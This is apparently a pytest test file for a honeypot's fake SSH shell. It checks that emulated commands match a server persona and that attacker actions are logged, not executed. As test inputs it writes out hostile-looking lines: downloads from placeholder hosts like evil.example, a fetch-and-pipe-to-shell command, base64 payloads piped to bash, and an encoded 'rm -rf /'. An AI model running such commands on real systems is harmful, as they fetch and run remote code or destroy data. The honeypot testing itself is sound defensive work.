"""The fake shell engine on its own: parsing, expansion and command output consistent with the persona."""

from __future__ import annotations

import re
from typing import Any

import pytest

from decnet.fleet.persona import Persona
from decnet.services.ssh import netcmds
from decnet.services.ssh.cmdutil import REGISTRY
from decnet.services.ssh.fakefs import FakeFS
from decnet.services.ssh.session import ShellSession  # noqa: F401  (registers every command)
from decnet.services.ssh.shell import MAX_COMMANDS_PER_LINE, Shell
from decnet.services.ssh.system import System

from .conftest import make_persona


class Term:
    """A shell plus what it printed and emitted."""

    def __init__(
        self,
        persona: Persona | None = None,
        login: str = "root",
        interactive: bool = True,
        secrets: list[str] | None = None,
    ) -> None:
        self.persona = persona or make_persona()
        self.events: list[tuple[str, dict[str, str]]] = []
        self.output: list[str] = []
        system = System(self.persona, ["ubuntu", "root"])
        pending = list(secrets or [])

        async def read_secret(prompt: str) -> str | None:
            self.output.append(prompt)
            return pending.pop(0) if pending else None

        self.shell = Shell(
            system,
            FakeFS(system),
            login,
            commands=REGISTRY,
            src_ip="203.0.113.9",
            src_port=40022,
            interactive=interactive,
            emit=lambda kind, fields: self.events.append((kind, fields)),
            read_secret=read_secret if secrets is not None else None,
        )

    async def run(self, line: str, **kwargs: Any) -> str:
        self.output.clear()

        async def write(text: str) -> None:
            self.output.append(text)

        await self.shell.run_line(line, write, **kwargs)
        return "".join(self.output)

    def of(self, kind: str) -> list[dict[str, str]]:
        return [fields for k, fields in self.events if k == kind]


@pytest.fixture(autouse=True)
def _fast_network(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(netcmds, "CONNECT_DELAY_S", 0.01)
    monkeypatch.setattr(netcmds, "DNS_DELAY_S", 0.01)
    monkeypatch.setattr(netcmds, "TFTP_TIMEOUT_S", 0.01)


async def test_identity_commands_follow_the_persona() -> None:
    term = Term()
    persona = term.persona
    uname = await term.run("uname -a")
    assert uname.startswith(f"Linux SRV-ATLAS-07 {persona.kernel} #")
    assert uname.rstrip().endswith("x86_64 x86_64 x86_64 GNU/Linux")
    assert await term.run("uname -r") == persona.kernel + "\n"
    assert await term.run("uname -m") == "x86_64\n"
    assert await term.run("uname -n") == "SRV-ATLAS-07\n"
    assert await term.run("uname -snr") == f"Linux SRV-ATLAS-07 {persona.kernel}\n"
    assert await term.run("hostname") == "SRV-ATLAS-07\n"
    assert await term.run("whoami") == "root\n"
    assert await term.run("id") == "uid=0(root) gid=0(root) groups=0(root)\n"
    release = await term.run("cat /etc/os-release")
    assert 'PRETTY_NAME="Ubuntu 22.04.4 LTS"' in release and "VERSION_CODENAME=jammy" in release
    cpu = await term.run("cat /proc/cpuinfo")
    assert cpu.count("model name\t: Intel(R) Xeon(R) Gold 6248 CPU @ 2.50GHz") == persona.cpu_count
    assert await term.run("grep -c processor /proc/cpuinfo") == "4\n"
    assert await term.run("nproc") == "4\n"
    meminfo = await term.run("cat /proc/meminfo")
    assert re.search(r"^MemTotal:\s+8141072 kB$", meminfo, re.M)
    passwd = await term.run("cat /etc/passwd")
    assert passwd.startswith("root:x:0:0:root:/root:/bin/bash\n")
    assert "ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash" in passwd


async def test_system_state_commands() -> None:
    term = Term()
    uptime = await term.run("uptime")
    assert re.fullmatch(
        r" \d\d:\d\d:\d\d up 12 days,  3:0\d,  1 user,  load average: [\d.]+, [\d.]+, [\d.]+\n", uptime
    ), uptime
    w = await term.run("w")
    assert "USER     TTY      FROM" in w and "203.0.113.9" in w
    free = (await term.run("free -m")).splitlines()
    assert free[0].split() == ["total", "used", "free", "shared", "buff/cache", "available"]
    assert free[1].split()[1] == str(8_141_072 // 1024)
    df = (await term.run("df -h")).splitlines()
    assert df[0].split() == ["Filesystem", "Size", "Used", "Avail", "Use%", "Mounted", "on"]
    assert any(line.endswith(" /") and line.startswith("/dev/sda1") for line in df)
    ps = (await term.run("ps auxww")).splitlines()
    assert ps[0].split()[:3] == ["USER", "PID", "%CPU"]
    assert any("sshd: root@pts/0" in line for line in ps) and ps[-1].endswith("ps auxww")
    ip = await term.run("ip a")
    assert "inet 192.168.1.110/24 brd 192.168.1.255 scope global eth0" in ip
    assert "link/ether 00:50:56:12:34:56" in ip and "fe80::250:56ff:fe12:3456/64" in ip
    ifconfig = await term.run("ifconfig")
    assert "inet 192.168.1.110  netmask 255.255.255.0  broadcast 192.168.1.255" in ifconfig
    assert "ether 00:50:56:12:34:56" in ifconfig


async def test_filesystem_navigation_and_permissions() -> None:
    term = Term(login="ubuntu")
    assert await term.run("pwd") == "/home/ubuntu\n"
    listing = await term.run("ls -a")
    assert ".bashrc" in listing and ".ssh" in listing
    assert await term.run("cd /tmp && pwd") == "/tmp\n"
    assert await term.run("cd /nope") == "-bash: cd: /nope: No such file or directory\n"
    assert await term.run("cd /root") == "-bash: cd: /root: Permission denied\n"
    assert await term.run("cat /etc/shadow") == "cat: /etc/shadow: Permission denied\n"
    assert await term.run("ls /var/log") != ""
    assert await term.run("cd; pwd") == "/home/ubuntu\n"
    assert await term.run("cd - ") == "/tmp\n"
    root = Term()
    assert "ubuntu" in await root.run("ls /home")
    assert (await root.run("cat /etc/shadow")).startswith("root:$6$")


async def test_pipes_lists_redirections_and_expansion() -> None:
    term = Term()
    assert await term.run("cat /etc/passwd | grep ^root | cut -d: -f7") == "/bin/bash\n"
    assert await term.run("false && echo no; true && echo yes || echo never") == "yes\n"
    assert await term.run("echo hello > /tmp/a; echo world >> /tmp/a; cat /tmp/a | wc -l") == "2\n"
    assert await term.run("echo $(whoami)@`hostname`") == "root@SRV-ATLAS-07\n"
    assert await term.run("export FOO=bar; echo \"$FOO\" '$FOO' ~") == "bar $FOO /root\n"
    assert await term.run("ls -1 /etc/host*") == "/etc/hostname\n/etc/hosts\n"
    assert await term.run("nosuch 2>/dev/null; echo $?") == "127\n"
    assert await term.run("echo -e 'a\\tb'") == "a\tb\n"
    assert await term.run("echo 'cm0gLXJmIC8K' | base64 -d") == "rm -rf /\n"
    assert await term.run("awk -F: '{print $1}' /etc/passwd | head -n 2") == "root\ndaemon\n"
    assert await term.run("echo a b c | awk '{print $2}'") == "b\n"
    assert await term.run("cat /proc/cpuinfo | grep name | wc -l") == "4\n"
    assert await term.run("ls | ") == "-bash: syntax error near unexpected token `newline'\n"


async def test_unknown_commands_and_history() -> None:
    term = Term()
    assert await term.run("frobnicate --now") == "-bash: frobnicate: command not found\n"
    assert await term.run("/bin/busybox HONEYPOT") == "-bash: /bin/busybox: No such file or directory\n"
    await term.run("id")
    history = await term.run("history")
    assert history.splitlines()[-3:] == ["    2  /bin/busybox HONEYPOT", "    3  id", "    4  history"]
    exec_term = Term(interactive=False)
    assert (
        await exec_term.run("frobnicate", exec_request=True)
        == "bash: line 1: frobnicate: command not found\n"
    )


async def test_every_line_is_a_command_event() -> None:
    term = Term(login="ubuntu")
    await term.run("cd /tmp")
    await term.run("ls -la; id")
    commands = term.of("command")
    assert [c["command"] for c in commands] == ["cd /tmp", "ls -la; id"]
    assert commands[1]["cwd"] == "/tmp" and commands[1]["username"] == "ubuntu"
    assert commands[1]["exec"] == "false"


async def test_downloads_are_recorded_not_fetched() -> None:
    term = Term()
    out = await term.run(
        "cd /tmp; wget http://198.51.100.7/x.sh; curl -s -O https://evil.example/a.bin; "
        "tftp -g -r bot 198.51.100.8; ftpget -u anon 198.51.100.9 loader /pub/loader"
    )
    assert "Connecting to 198.51.100.7:80... failed: Connection refused." in out
    assert "tftp: timeout" in out or "Transfer timed out." in out
    downloads = term.of("download")
    assert [(d["tool"], d["url"]) for d in downloads] == [
        ("wget", "http://198.51.100.7/x.sh"),
        ("curl", "https://evil.example/a.bin"),
        ("tftp", "tftp://198.51.100.8/bot"),
        ("ftpget", "ftp://anon@198.51.100.9/pub/loader"),
    ]
    assert downloads[0]["cwd"] == "/tmp"
    curl = await term.run("curl http://no.such.host/")
    assert curl == "curl: (6) Could not resolve host: no.such.host\n"
    wget = await term.run("wget -q -O- http://evil.example/a | sh")
    assert wget == "wget: unable to resolve host address \u2018evil.example\u2019\n"


async def test_scripts_run_in_the_fake_shell_and_are_logged() -> None:
    term = Term()
    await term.run("echo 'wget http://198.51.100.7/second' > /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh")
    assert [d["url"] for d in term.of("download")] == ["http://198.51.100.7/second"]
    assert any(c.get("source") == "script:/tmp/s.sh" for c in term.of("command"))
    await term.run("echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3RoaXJk | base64 -d | bash")
    assert term.of("download")[-1]["url"] == "http://198.51.100.7/third"


async def test_sudo_su_and_passwd() -> None:
    term = Term(login="ubuntu")
    assert await term.run("sudo id") == "uid=0(root) gid=0(root) groups=0(root)\n"
    await term.run("sudo -i")
    assert term.shell.prompt() == "root@SRV-ATLAS-07:~# "
    assert await term.run("whoami") == "root\n"
    await term.run("exit")
    assert not term.shell.exited and term.shell.user.name == "ubuntu"
    asker = Term(login="ubuntu", secrets=["hunter2"])
    out = await asker.run("su")
    assert out == "Password: su: Authentication failure\n"
    assert asker.of("auth") == [
        {"username": "ubuntu", "password": "hunter2", "method": "su", "result": "failure"}
    ]
    root = Term(secrets=["n3w", "n3w"])
    assert "passwd: password updated successfully" in await root.run("passwd")
    assert root.of("password_change") == [{"username": "root", "password": "n3w", "tool": "passwd"}]
    await root.run("echo 'root:Pa55' | chpasswd")
    assert root.of("password_change")[-1]["password"] == "Pa55"


async def test_exit_and_logout_end_the_shell() -> None:
    term = Term()
    assert await term.run("exit 3") == "logout\n"
    assert term.shell.exited and term.shell.exit_status == 3


async def test_work_per_line_is_bounded() -> None:
    term = Term()
    out = await term.run("; ".join(["echo x"] * (MAX_COMMANDS_PER_LINE * 4)))
    assert out.count("x\n") == MAX_COMMANDS_PER_LINE
    out = await term.run("cat /proc/cpuinfo " * 400)
    assert len(out) <= 1 << 20
    nested = await term.run("echo $(echo $(echo $(echo $(echo $(echo deep)))))")
    assert nested in {"\n", "deep\n"}


async def test_other_distros_look_like_themselves() -> None:
    rocky = make_persona(
        distro="rocky9",
        distro_name="Rocky Linux 9.3 (Blue Onyx)",
        hostname="web03.localdomain",
        kernel="5.14.0-362.18.1.el9_3.x86_64",
        ssh_banner="SSH-2.0-OpenSSH_8.7",
    )
    term = Term(rocky)
    assert term.shell.prompt() == "[root@web03 ~]# "
    assert 'ID="rocky"' in await term.run("cat /etc/os-release")
    assert (await term.run("id")).endswith("context=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023\n")
    alpine = make_persona(
        distro="alpine", distro_name="Alpine Linux v3.19", hostname="relay-04", kernel="6.6.14-0-lts"
    )
    aterm = Term(alpine)
    assert aterm.shell.prompt() == "relay-04:~# "
    assert await aterm.run("nosuch") == "-ash: nosuch: not found\n"
    assert "BusyBox" in await aterm.run("/bin/busybox")
